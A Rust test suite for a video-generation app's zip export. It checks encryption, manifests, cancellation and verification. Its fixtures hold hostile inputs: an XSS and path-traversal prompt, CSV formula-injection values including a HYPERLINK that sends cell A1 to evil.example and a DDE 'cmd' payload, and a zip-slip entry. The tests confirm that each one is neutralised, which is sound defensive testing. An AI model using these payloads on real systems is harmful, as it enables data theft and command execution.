//! Whole exports of a real (encrypted) store, read back with a zip reader.

use std::collections::BTreeSet;
use std::io::Read;
use std::sync::atomic::AtomicBool;
use std::sync::Mutex;

use super::*;
use crate::model::{LedgerEntry, Mode, Profile, Purchase, Settings, Status};
use crate::secret::DatabaseKey;

const EVIL: &str = "</script><img src=x onerror=alert(1)> ../../etc/passwd";

fn generation(id: &str, prompt: &str, second: u32, status: Status) -> Generation {
    let at = format!("2024-01-01T00:00:{second:02}Z");
    Generation {
        id: id.into(),
        prompt: prompt.into(),
        mode: Mode::TextToVideo,
        settings: Settings::default(),
        references: Vec::new(),
        status,
        progress: 1.0,
        credits_charged: 700,
        output_url: (status == Status::Succeeded)
            .then(|| format!("http://127.0.0.1:1/api/v1/media/t{id}/clip.gif")),
        thumbnail_url: Some(format!("http://127.0.0.1:1/api/v1/media/t{id}/poster.png")),
        error: None,
        created_at: at.clone(),
        updated_at: at,
        deleted: false,
        deleted_at: None,
    }
}

struct Fixture {
    dir: tempfile::TempDir,
    store: Store,
    key: DatabaseKey,
}

/// A store with three generations (one with a hostile prompt, one in Japanese, one failed),
/// thumbnails for the first two, two ledger entries and a purchase.
fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let key = DatabaseKey::generate().unwrap();
    let mut store = Store::create(&dir.path().join("history.db"), &key).unwrap();
    store
        .put_profile(&Profile {
            uid: "u1".into(),
            email: "ada@example.com".into(),
            display_name: Some("Ada".into()),
            credit_balance: 1200,
            analytics_opt_in: false,
            created_at: "2024-01-01T00:00:00Z".into(),
            updated_at: "2024-01-01T00:00:00Z".into(),
        })
        .unwrap();
    store
        .upsert_generations(&[
            generation("g1", EVIL, 1, Status::Succeeded),
            generation("g2", "東京の夜, \"neon\"\nrain", 2, Status::Succeeded),
            generation("g3", "a failed one", 3, Status::Failed),
        ])
        .unwrap();
    for id in ["g1", "g2"] {
        let png = [b"\x89PNG\r\n\x1a\n".as_slice(), id.as_bytes()].concat();
        assert!(store.put_thumbnail(id, "image/png", &png).unwrap());
    }
    let entry = |id: &str, amount: i64, reason: &str, balance: i64| LedgerEntry {
        id: id.into(),
        amount,
        reason: reason.into(),
        generation_id: None,
        balance_after: balance,
        created_at: "2024-01-01T00:00:00Z".into(),
        updated_at: "2024-01-01T00:00:00Z".into(),
    };
    store
        .upsert_ledger(&[
            entry("l1", 2000, "signup_grant", 2000),
            entry("l2", -800, "generation", 1200),
        ])
        .unwrap();
    store
        .upsert_purchases(&[Purchase {
            id: "p1".into(),
            credits: 1000,
            amount_cents: 999,
            currency: "EUR".into(),
            created_at: "2024-01-01T00:00:00Z".into(),
            updated_at: "2024-01-01T00:00:00Z".into(),
        }])
        .unwrap();
    Fixture { dir, store, key }
}

fn run(
    store: &Store,
    dest: &Path,
    options: &ExportOptions,
    videos: Option<&Path>,
) -> Result<ExportSummary, ExportError> {
    let cancel = AtomicBool::new(false);
    write_zip(
        store,
        dest,
        options,
        videos,
        &Monitor::new(&|_| {}, &cancel),
    )
}

fn read(zip: &mut zip::ZipArchive<File>, name: &str, password: Option<&str>) -> Vec<u8> {
    let mut file = match password {
        Some(p) => zip.by_name_decrypt(name, p.as_bytes()),
        None => zip.by_name(name),
    }
    .unwrap_or_else(|e| panic!("{name}: {e}"));
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes).unwrap();
    bytes
}

fn text(zip: &mut zip::ZipArchive<File>, name: &str) -> String {
    String::from_utf8(read(zip, name, None)).unwrap()
}

fn open_zip(path: &Path) -> zip::ZipArchive<File> {
    zip::ZipArchive::new(File::open(path).unwrap()).unwrap()
}

#[test]
fn an_export_holds_every_file_and_verifies() {
    let f = fixture();
    let dest = f.dir.path().join("out").join("export.zip");
    let summary = run(&f.store, &dest, &ExportOptions::default(), None).unwrap();
    assert_eq!(summary.path, dest);
    assert!(!summary.encrypted);
    assert_eq!(
        summary.counts,
        Counts {
            generations: 3,
            credit_ledger_entries: 2,
            purchases: 1,
            thumbnails: 2,
            videos: 0,
            media_files: 2,
        }
    );
    assert!(!f.dir.path().join("out").join("export.zip.part").exists());

    let mut zip = open_zip(&dest);
    let names: BTreeSet<&str> = zip.file_names().collect();
    let evil_png = "media/script-img-src-x-onerror-alert-1-etc-passwd-g1-thumbnail.png";
    let expected: BTreeSet<&str> = [
        "README.txt",
        "profile.json",
        "generations.json",
        "generations.csv",
        "index.html",
        "credit-ledger.csv",
        "purchases.csv",
        "manifest.json",
        evil_png,
        "media/東京の夜-neon-rain-g2-thumbnail.png",
    ]
    .into_iter()
    .collect();
    assert_eq!(names, expected);
    assert_eq!(summary.files, expected.len());

    // generations.json: every field, as typed, with the names of its files.
    let json: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "generations.json", None)).unwrap();
    let rows = json.as_array().unwrap();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0]["prompt"], EVIL);
    assert_eq!(rows[0]["thumbnailFile"], evil_png);
    assert_eq!(rows[0]["settings"]["durationSeconds"], 10);
    assert_eq!(rows[2]["thumbnailFile"], serde_json::Value::Null);
    let back: Generation = serde_json::from_value(rows[1].clone()).unwrap();
    assert_eq!(back, f.store.generation("g2").unwrap().unwrap());

    // generations.csv: a header of every column, one RFC 4180 record per generation.
    let csv = text(&mut zip, "generations.csv");
    assert!(csv.starts_with(&format!("{}\r\n", GENERATION_COLUMNS.join(","))));
    assert!(csv.contains("\"東京の夜, \"\"neon\"\"\nrain\""));
    assert_eq!(csv.matches("\r\n").count(), 4);

    let ledger = text(&mut zip, "credit-ledger.csv");
    assert!(
        ledger.contains("l2,2024-01-01T00:00:00Z,2024-01-01T00:00:00Z,-800,generation,,1200\r\n")
    );
    let purchases = text(&mut zip, "purchases.csv");
    assert_eq!(
        purchases,
        "id,created_at,updated_at,credits,amount_cents,currency\r\np1,2024-01-01T00:00:00Z,2024-01-01T00:00:00Z,1000,999,EUR\r\n"
    );
    let profile: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "profile.json", None)).unwrap();
    assert_eq!(profile["email"], "ada@example.com");

    // index.html: the hostile prompt is data, the thumbnails are linked relatively.
    let html = text(&mut zip, "index.html");
    assert_eq!(html.matches("<script").count(), 2);
    assert!(!html.contains("<img src=x"));
    assert!(html.contains(
        "\"thumbnail\":\"script-img-src-x-onerror-alert-1-etc-passwd-g1-thumbnail.png\""
    ));
    assert!(html.contains("\\u003c/script\\u003e\\u003cimg"));

    let manifest: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "manifest.json", None)).unwrap();
    assert_eq!(manifest["schemaVersion"], EXPORT_SCHEMA_VERSION);
    assert_eq!(manifest["counts"]["generations"], 3);
    assert_eq!(
        manifest["files"].as_array().unwrap().len(),
        expected.len() - 1
    );
    for file in manifest["files"].as_array().unwrap() {
        let name = file["path"].as_str().unwrap();
        let bytes = read(&mut zip, name, None);
        assert_eq!(
            hex::encode(Sha256::digest(&bytes)),
            file["sha256"].as_str().unwrap(),
            "{name}"
        );
        assert_eq!(
            bytes.len() as u64,
            file["bytes"].as_u64().unwrap(),
            "{name}"
        );
    }

    let report = verify(&dest, None).unwrap();
    assert!(report.is_ok(), "{:?}", report.problems);
    assert_eq!(report.files_checked, expected.len() - 1);
    assert_eq!(report.counts, summary.counts);
}

#[test]
fn an_export_never_replaces_a_file() {
    let f = fixture();
    let dest = f.dir.path().join("taken.zip");
    std::fs::write(&dest, b"precious").unwrap();
    let err = run(&f.store, &dest, &ExportOptions::default(), None).unwrap_err();
    assert_eq!(err.code(), "export.exists");
    assert_eq!(std::fs::read(&dest).unwrap(), b"precious");

    let first = unique_export_path(f.dir.path(), false).unwrap();
    std::fs::write(&first, b"x").unwrap();
    let second = unique_export_path(f.dir.path(), false).unwrap();
    assert_ne!(first, second);
    assert!(
        second.to_string_lossy().ends_with("-2.zip"),
        "{}",
        second.display()
    );
}

#[test]
fn a_canceled_export_leaves_nothing_behind() {
    let f = fixture();
    let folder = f.dir.path().join("exports");
    let dest = folder.join("export.zip");
    let cancel = AtomicBool::new(false);
    let seen = Mutex::new(Vec::new());
    let progress = |p: ExportProgress| {
        seen.lock().unwrap().push(p);
        if p.step == ExportStep::Generations {
            cancel.store(true, Ordering::Relaxed);
        }
    };
    let err = write_zip(
        &f.store,
        &dest,
        &ExportOptions::default(),
        None,
        &Monitor::new(&progress, &cancel),
    )
    .unwrap_err();
    assert_eq!(err.code(), "export.canceled");
    let left: Vec<_> = std::fs::read_dir(&folder).unwrap().collect();
    assert!(left.is_empty(), "no zip, no .part, no side file: {left:?}");
    let seen = seen.lock().unwrap();
    assert!(seen
        .iter()
        .any(|p| p.step == ExportStep::Generations && p.items_done == 3 && p.items_total == 3));
    assert!(seen
        .windows(2)
        .all(|w| w[0].bytes_written <= w[1].bytes_written));
}

#[test]
fn progress_ends_with_the_whole_zip() {
    let f = fixture();
    let dest = f.dir.path().join("export.zip");
    let cancel = AtomicBool::new(false);
    let last = Mutex::new(None);
    let progress = |p: ExportProgress| *last.lock().unwrap() = Some(p);
    let summary = write_zip(
        &f.store,
        &dest,
        &ExportOptions::default(),
        None,
        &Monitor::new(&progress, &cancel),
    )
    .unwrap();
    let last = last.lock().unwrap().unwrap();
    assert_eq!(last.step, ExportStep::Finishing);
    assert_eq!((last.items_done, last.items_total), (1, 1));
    assert_eq!(last.bytes_written, summary.bytes);
}

#[test]
fn a_history_that_changes_during_the_export_is_exported_as_it_was() {
    let f = fixture();
    // Another process (the app while the CLI exports) writes through its own connection.
    let mut other = Store::open(&f.dir.path().join("history.db"), &f.key).unwrap();
    let dest = f.dir.path().join("export.zip");
    let cancel = AtomicBool::new(false);
    let wrote = AtomicBool::new(false);
    let other = Mutex::new(&mut other);
    let progress = |p: ExportProgress| {
        if p.step == ExportStep::Generations && !wrote.swap(true, Ordering::Relaxed) {
            let g = generation("g9", "sneaked in", 9, Status::Succeeded);
            other.lock().unwrap().upsert_generations(&[g]).unwrap();
        }
    };
    let monitor = Monitor::new(&progress, &cancel);
    let summary = write_zip(&f.store, &dest, &ExportOptions::default(), None, &monitor).unwrap();
    assert!(wrote.load(Ordering::Relaxed));
    assert_eq!(
        summary.counts.generations, 3,
        "one snapshot: the new one is not half in"
    );
    let report = verify(&dest, None).unwrap();
    assert!(report.is_ok(), "{:?}", report.problems);
}

#[test]
fn downloaded_clips_are_included_as_they_are() {
    let f = fixture();
    let clips = f.dir.path().join("clips");
    std::fs::create_dir(&clips).unwrap();
    let g1 = f.store.generation("g1").unwrap().unwrap();
    let clip = b"GIF89a fake clip bytes".repeat(1000);
    std::fs::write(clips.join(clip_cache_name(&g1).unwrap()), &clip).unwrap();
    assert_eq!(clip_cache_name(&g1).unwrap(), "g1.gif");
    // A leftover partial download and a failed generation's name are not included.
    std::fs::write(clips.join("g2.gif.part"), b"partial").unwrap();
    std::fs::write(clips.join("g3.gif"), b"not a finished generation").unwrap();

    let dest = f.dir.path().join("export.zip");
    let options = ExportOptions {
        include_videos: true,
        password: None,
        only: None,
    };
    let summary = run(&f.store, &dest, &options, Some(&clips)).unwrap();
    assert_eq!((summary.counts.videos, summary.counts.media_files), (1, 3));
    let mut zip = open_zip(&dest);
    let name = "media/script-img-src-x-onerror-alert-1-etc-passwd-g1-video.gif";
    assert_eq!(read(&mut zip, name, None), clip);
    assert_eq!(
        zip.by_name(name).unwrap().compression(),
        CompressionMethod::Stored
    );
    let json: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "generations.json", None)).unwrap();
    assert_eq!(json[0]["videoFile"], name);
    assert_eq!(json[1]["videoFile"], serde_json::Value::Null);
    assert!(text(&mut zip, "index.html").contains(&format!(
        "\"video\":\"{}\"",
        name.trim_start_matches("media/")
    )));
    assert!(verify(&dest, None).unwrap().is_ok());
}

/// Exporting a Library selection: only those generations, their media and rows; the account's
/// profile, ledger and purchases as always; the manifest counts and verifies.
#[test]
fn a_selection_exports_only_its_generations() {
    let f = fixture();
    let dest = f.dir.path().join("selection.zip");
    let options = ExportOptions {
        include_videos: false,
        password: None,
        only: Some(["g2".to_string(), "g3".to_string(), "gone".to_string()].into()),
    };
    let summary = run(&f.store, &dest, &options, None).unwrap();
    assert_eq!(summary.counts.generations, 2);
    assert_eq!(summary.counts.thumbnails, 1);
    let mut zip = open_zip(&dest);
    let json: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "generations.json", None)).unwrap();
    let mut ids: Vec<&str> = json
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["id"].as_str().unwrap())
        .collect();
    ids.sort();
    assert_eq!(ids, ["g2", "g3"]);
    let csv = text(&mut zip, "generations.csv");
    assert!(!csv.contains("g1,") && csv.contains("g2") && csv.contains("g3"));
    assert!(!text(&mut zip, "index.html").contains("\"g1\""));
    assert!(text(&mut zip, "credit-ledger.csv").contains("signup_grant"));
    assert!(text(&mut zip, "purchases.csv").contains("EUR"));
    assert!(verify(&dest, None).unwrap().is_ok());
}

#[test]
fn a_password_protected_export_opens_only_with_its_password() {
    let f = fixture();
    let dest = f.dir.path().join("secret-encrypted.zip");
    let options = ExportOptions {
        include_videos: false,
        password: Some(SecretString::new("correct horse".into())),
        only: None,
    };
    let summary = run(&f.store, &dest, &options, None).unwrap();
    assert!(summary.encrypted);

    let mut zip = open_zip(&dest);
    // File names are not encrypted by zip, so they carry no prompt.
    let names: Vec<String> = zip.file_names().map(str::to_string).collect();
    assert!(
        names.contains(&"media/g1-thumbnail.png".to_string()),
        "{names:?}"
    );
    assert!(names
        .iter()
        .all(|n| !n.contains("script") && !n.contains("東京")));
    // The README says what this is and is the only readable file.
    assert!(text(&mut zip, "README.txt").starts_with("PASSWORD-PROTECTED EXPORT (AES-256)"));
    for name in names.iter().filter(|n| *n != "README.txt") {
        match zip.by_name(name) {
            Err(zip::result::ZipError::UnsupportedArchive(msg)) => {
                assert_eq!(msg, zip::result::ZipError::PASSWORD_REQUIRED)
            }
            Err(e) => panic!("{name}: {e}"),
            Ok(_) => panic!("{name} is readable without the password"),
        }
        assert!(matches!(
            zip.by_name_decrypt(name, b"wrong password"),
            Err(zip::result::ZipError::InvalidPassword)
        ));
    }
    // Nothing personal is visible in the raw bytes either.
    let raw = std::fs::read(&dest).unwrap();
    for needle in ["ada@example.com", "failed one", "neon", "signup_grant"] {
        assert!(
            !raw.windows(needle.len()).any(|w| w == needle.as_bytes()),
            "{needle}"
        );
    }
    // With the password everything is there.
    let json: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "generations.json", Some("correct horse"))).unwrap();
    assert_eq!(json[0]["prompt"], EVIL);

    assert_eq!(
        verify(&dest, None).unwrap_err().code(),
        "export.password_required"
    );
    let wrong = SecretString::new("nope".into());
    assert_eq!(
        verify(&dest, Some(&wrong)).unwrap_err().code(),
        "export.wrong_password"
    );
    let right = SecretString::new("correct horse".into());
    let report = verify(&dest, Some(&right)).unwrap();
    assert!(report.is_ok(), "{:?}", report.problems);
    assert!(report.encrypted);
}

/// Copies the zip at `from` to `to`, with `change` deciding each file's new content (`None`
/// drops it), plus `extra` files.
fn rewrite(
    from: &Path,
    to: &Path,
    change: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>,
    extra: &[(&str, &[u8])],
) {
    let mut source = open_zip(from);
    let mut out = ZipWriter::new(File::create(to).unwrap());
    for i in 0..source.len() {
        let mut file = source.by_index(i).unwrap();
        let name = file.name().to_string();
        let mut bytes = Vec::new();
        file.read_to_end(&mut bytes).unwrap();
        if let Some(bytes) = change(&name, bytes) {
            out.start_file(name.as_str(), SimpleFileOptions::default())
                .unwrap();
            out.write_all(&bytes).unwrap();
        }
    }
    for (name, bytes) in extra {
        out.start_file(*name, SimpleFileOptions::default()).unwrap();
        out.write_all(bytes).unwrap();
    }
    out.finish().unwrap();
}

#[test]
fn verify_reports_every_difference() {
    let f = fixture();
    let good = f.dir.path().join("good.zip");
    run(&f.store, &good, &ExportOptions::default(), None).unwrap();
    let bad = f.dir.path().join("bad.zip");
    rewrite(
        &good,
        &bad,
        |name, bytes| match name {
            "README.txt" => None,
            "credit-ledger.csv" => Some([bytes.as_slice(), b"l3,x,x,1,forged,,1\r\n"].concat()),
            _ => Some(bytes),
        },
        &[("media/extra.png", b"unlisted"), ("../escape.txt", b"x")],
    );
    let report = verify(&bad, None).unwrap();
    let problems: BTreeSet<String> = report.problems.iter().map(ToString::to_string).collect();
    let expected: BTreeSet<String> = [
        "README.txt: listed but missing",
        "credit-ledger.csv: its content differs from the manifest",
        "media/extra.png: present but not listed in the manifest",
        "../escape.txt: this name would escape the folder it is unpacked into",
        "../escape.txt: present but not listed in the manifest",
        "entries in credit-ledger.csv: the manifest says 2, the files hold 3",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(problems, expected);

    let not_export = f.dir.path().join("plain.zip");
    rewrite(
        &good,
        &not_export,
        |name, b| (name != MANIFEST).then_some(b),
        &[],
    );
    assert_eq!(
        verify(&not_export, None).unwrap_err().code(),
        "export.not_an_export"
    );
}

/// Runs `script` with Python's zipfile, a zip reader independent of the one that wrote the
/// export: `z` is the zip at `zip`, `sys.argv[2:]` are `args`. Gives what it prints.
fn python_zip(zip: &Path, script: &str, args: &[&str]) -> String {
    let program = format!(
        "import zipfile, sys, json, csv, io, struct, warnings\n\
         warnings.simplefilter('ignore')\n\
         z = zipfile.ZipFile(sys.argv[1])\n\
         {script}"
    );
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(program)
        .arg(zip)
        .args(args)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The entry names of the zip at `zip`, as Python's zipfile lists them (repeats included).
fn python_names(zip: &Path) -> Vec<String> {
    let json = python_zip(zip, "print(json.dumps(z.namelist()))", &[]);
    serde_json::from_str(&json).unwrap()
}

/// The records of a CSV file in the zip at `zip`, as Python's csv module reads them.
fn python_csv(zip: &Path, name: &str) -> Vec<Vec<String>> {
    let json = python_zip(
        zip,
        "text = z.read(sys.argv[2]).decode('utf-8')\n\
         print(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))",
        &[name],
    );
    serde_json::from_str(&json).unwrap()
}

/// Issue 15: a GIF clip and a GIF thumbnail of one generation used to get one name, and the
/// zip refused the second ("Duplicate filename"), failing the whole export.
#[test]
fn a_thumbnail_and_a_clip_of_one_extension_both_go_in() {
    let mut f = fixture();
    let g4 = generation("g4", "neon rain", 4, Status::Succeeded);
    f.store
        .upsert_generations(std::slice::from_ref(&g4))
        .unwrap();
    let gif = b"GIF89a a poster frame, long enough".to_vec();
    assert!(f.store.put_thumbnail("g4", "image/gif", &gif).unwrap());
    let clips = f.dir.path().join("clips");
    std::fs::create_dir(&clips).unwrap();
    let clip = b"GIF89a the whole clip".repeat(100);
    std::fs::write(clips.join(clip_cache_name(&g4).unwrap()), &clip).unwrap();

    for (password, thumbnail, video) in [
        (
            None,
            "media/neon-rain-g4-thumbnail.gif",
            "media/neon-rain-g4-video.gif",
        ),
        (
            Some("correct horse"),
            "media/g4-thumbnail.gif",
            "media/g4-video.gif",
        ),
    ] {
        let dest = f
            .dir
            .path()
            .join(format!("gifs-{}.zip", password.is_some()));
        let options = ExportOptions {
            include_videos: true,
            password: password.map(|p| SecretString::new(p.into())),
            only: None,
        };
        let summary = run(&f.store, &dest, &options, Some(&clips)).unwrap();
        assert_eq!((summary.counts.thumbnails, summary.counts.videos), (3, 1));
        let names = python_names(&dest);
        assert!(names.iter().any(|n| n == thumbnail), "{names:?}");
        assert!(names.iter().any(|n| n == video), "{names:?}");
        let unique: BTreeSet<&String> = names.iter().collect();
        assert_eq!(unique.len(), names.len(), "{names:?}");
        let mut zip = open_zip(&dest);
        assert_eq!(read(&mut zip, thumbnail, password), gif);
        assert_eq!(read(&mut zip, video, password), clip);
        let password = password.map(|p| SecretString::new(p.into()));
        let report = verify(&dest, password.as_ref()).unwrap();
        assert!(report.is_ok(), "{:?}", report.problems);
    }
}

/// Issue 15: text a spreadsheet would run as a formula starts with `'` in every CSV, from
/// the user (a prompt) and from the server (an error, a ledger reason, a currency); numbers,
/// a negative amount included, stay numbers; the JSON keeps the exact text.
#[test]
fn csv_text_that_a_spreadsheet_would_run_starts_with_a_quote() {
    let mut f = fixture();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let mut g = generation("g5", formula, 5, Status::Failed);
    g.error = Some("@SUM(1+1)".into());
    g.credits_charged = -840;
    f.store.upsert_generations(&[g]).unwrap();
    f.store
        .upsert_ledger(&[LedgerEntry {
            id: "l3".into(),
            amount: -840,
            reason: "-1+1".into(),
            generation_id: Some("g5".into()),
            balance_after: 360,
            created_at: "2024-01-01T00:00:05Z".into(),
            updated_at: "2024-01-01T00:00:05Z".into(),
        }])
        .unwrap();
    f.store
        .upsert_purchases(&[Purchase {
            id: "p2".into(),
            credits: 500,
            amount_cents: -999,
            currency: "+cmd|' /C calc'!A0".into(),
            created_at: "2024-01-01T00:00:05Z".into(),
            updated_at: "2024-01-01T00:00:05Z".into(),
        }])
        .unwrap();
    let dest = f.dir.path().join("formulas.zip");
    run(&f.store, &dest, &ExportOptions::default(), None).unwrap();

    let column = |header: &[String], name: &str| header.iter().position(|c| c == name).unwrap();
    let generations = python_csv(&dest, "generations.csv");
    let row = generations.iter().find(|r| r[0] == "g5").unwrap();
    let header = &generations[0];
    assert_eq!(row[column(header, "prompt")], format!("'{formula}"));
    assert_eq!(row[column(header, "error")], "'@SUM(1+1)");
    assert_eq!(row[column(header, "credits_charged")], "-840");
    assert_eq!(row[column(header, "progress")], "1");

    let ledger = python_csv(&dest, "credit-ledger.csv");
    let row = ledger.iter().find(|r| r[0] == "l3").unwrap();
    assert_eq!(row[column(&ledger[0], "amount")], "-840");
    assert_eq!(row[column(&ledger[0], "reason")], "'-1+1");
    assert_eq!(row[column(&ledger[0], "balance_after")], "360");

    let purchases = python_csv(&dest, "purchases.csv");
    let row = purchases.iter().find(|r| r[0] == "p2").unwrap();
    assert_eq!(
        row[column(&purchases[0], "currency")],
        "'+cmd|' /C calc'!A0"
    );
    assert_eq!(row[column(&purchases[0], "amount_cents")], "-999");

    let mut zip = open_zip(&dest);
    let json: serde_json::Value =
        serde_json::from_slice(&read(&mut zip, "generations.json", None)).unwrap();
    let g5 = json
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["id"] == "g5")
        .unwrap();
    assert_eq!(g5["prompt"], formula);
    assert_eq!(g5["error"], "@SUM(1+1)");
    let report = verify(&dest, None).unwrap();
    assert!(report.is_ok(), "{:?}", report.problems);
}

/// What Python's zipfile says of an entry: its name, method, CRC in the central directory and
/// in the local header, AES vendor version in both, and size.
type PythonEntry = (String, u32, u32, u32, Option<u16>, Option<u16>, u64);

/// Issue 15: the encrypted entries are WinZip AE-2, so no CRC of the plaintext is readable:
/// Python's zipfile sees AES (method 99), a CRC of 0 in the central directory and in the local
/// header, and vendor version 2 in both AES fields.
#[test]
fn encrypted_entries_are_ae2_without_a_crc() {
    let f = fixture();
    let dest = f.dir.path().join("secret.zip");
    let options = ExportOptions {
        include_videos: false,
        password: Some(SecretString::new("correct horse".into())),
        only: None,
    };
    run(&f.store, &dest, &options, None).unwrap();
    let script = r#"
def aes_version(extra):
    at = 0
    while at + 4 <= len(extra):
        kind, size = struct.unpack_from('<HH', extra, at)
        if kind == 0x9901:
            return struct.unpack_from('<H', extra, at + 4)[0]
        at += 4 + size
    return None
raw = open(sys.argv[1], 'rb').read()
out = []
for i in z.infolist():
    start = i.header_offset
    local_crc, = struct.unpack_from('<I', raw, start + 14)
    name_len, extra_len = struct.unpack_from('<HH', raw, start + 26)
    local_extra = raw[start + 30 + name_len:start + 30 + name_len + extra_len]
    out.append([i.filename, i.compress_type, i.CRC, local_crc, aes_version(i.extra), aes_version(local_extra), i.file_size])
print(json.dumps(out))
"#;
    let entries: Vec<PythonEntry> = serde_json::from_str(&python_zip(&dest, script, &[])).unwrap();
    assert_eq!(entries.len(), 10);
    for (name, method, crc, local_crc, version, local_version, size) in &entries {
        if name == "README.txt" {
            assert_eq!(
                (*method, *version),
                (8, None),
                "README.txt is not encrypted"
            );
            continue;
        }
        assert_eq!(*method, 99, "{name} is AES-encrypted");
        assert_eq!(
            (*crc, *local_crc, *version, *local_version),
            (0, 0, Some(2), Some(2)),
            "{name} ({size} bytes) is AE-2"
        );
    }
    assert!(
        entries.iter().any(|e| e.6 >= 20),
        "large entries are tested"
    );
    let right = SecretString::new("correct horse".into());
    let report = verify(&dest, Some(&right)).unwrap();
    assert!(report.is_ok(), "{:?}", report.problems);
}

#[test]
fn only_the_aes_field_becomes_ae2() {
    // A zip64 field (id 1, 8 bytes), then an AE-1 AES field: version 1, "AE", AES-256, deflate.
    let mut extra = vec![1, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8];
    extra.extend([0x01, 0x99, 7, 0, 1, 0, b'A', b'E', 3, 8, 0]);
    assert!(set_ae2_version(&mut extra));
    assert_eq!(&extra[..12], &[1, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
    assert_eq!(&extra[12..], &[0x01, 0x99, 7, 0, 2, 0, b'A', b'E', 3, 8, 0]);
    assert!(!set_ae2_version(&mut [1, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8]));
    // A field that claims more than there is.
    assert!(!set_ae2_version(&mut [0x01, 0x99, 7, 0, 1, 0]));
    assert!(!set_ae2_version(&mut []));
}

/// Issue 15: a zip may hold two entries of one name. The zip reader keeps one, unpackers
/// differ in which: a forged generations.csv placed before the real one used to pass.
#[test]
fn verify_refuses_a_name_twice() {
    let f = fixture();
    let good = f.dir.path().join("good.zip");
    run(&f.store, &good, &ExportOptions::default(), None).unwrap();
    let twice = f.dir.path().join("twice.zip");
    python_zip(
        &good,
        "out = zipfile.ZipFile(sys.argv[2], 'w')\n\
         out.writestr('generations.csv', 'id\\r\\nforged\\r\\n')\n\
         for i in z.infolist():\n    out.writestr(i, z.read(i))\n\
         out.close()",
        &[twice.to_str().unwrap()],
    );
    assert_eq!(
        python_names(&twice)
            .iter()
            .filter(|n| *n == "generations.csv")
            .count(),
        2
    );
    let report = verify(&twice, None).unwrap();
    assert!(!report.is_ok());
    assert!(
        report.problems.contains(&VerifyProblem::DuplicateName {
            path: "generations.csv".into()
        }),
        "{:?}",
        report.problems
    );
    assert!(verify(&good, None).unwrap().is_ok());
}

/// Issue 15: the manifest is read whole, so one larger than any export writes is refused
/// before it is read (here one of [`MAX_MANIFEST_BYTES`] + 1 bytes, valid JSON with spaces
/// after it).
#[test]
fn verify_refuses_an_oversized_manifest() {
    let f = fixture();
    let good = f.dir.path().join("good.zip");
    run(&f.store, &good, &ExportOptions::default(), None).unwrap();
    let big = f.dir.path().join("big.zip");
    python_zip(
        &good,
        "out = zipfile.ZipFile(sys.argv[2], 'w', zipfile.ZIP_DEFLATED)\n\
         for i in z.infolist():\n\
         \x20   data = z.read(i)\n\
         \x20   if i.filename == 'manifest.json':\n\
         \x20       data = data + b' ' * (int(sys.argv[3]) + 1 - len(data))\n\
         \x20   out.writestr(i.filename, data)\n\
         out.close()",
        &[
            big.to_str().unwrap(),
            &verify::MAX_MANIFEST_BYTES.to_string(),
        ],
    );
    let err = verify(&big, None).unwrap_err();
    assert_eq!(err.code(), "export.manifest_too_large", "{err}");
}

/// Issue 15: an export password has at least 8 characters, counted as the app's form counts
/// them; the CLI asks the same function.
#[test]
fn a_short_export_password_is_refused() {
    let f = fixture();
    for (password, code) in [
        ("", Some("export.empty_password")),
        ("1234567", Some("export.password_too_short")),
        ("ééééééé", Some("export.password_too_short")),
        ("12345678", None),
        ("éééééééé", None),
    ] {
        assert_eq!(
            check_export_password(password).err().map(|e| e.code()),
            code,
            "{password:?}"
        );
        let dest = f.dir.path().join(format!("p{}.zip", password.len()));
        let options = ExportOptions {
            include_videos: false,
            password: Some(SecretString::new(password.into())),
            only: None,
        };
        let result = run(&f.store, &dest, &options, None);
        assert_eq!(result.err().map(|e| e.code()), code, "{password:?}");
        assert_eq!(dest.exists(), code.is_none());
    }
}
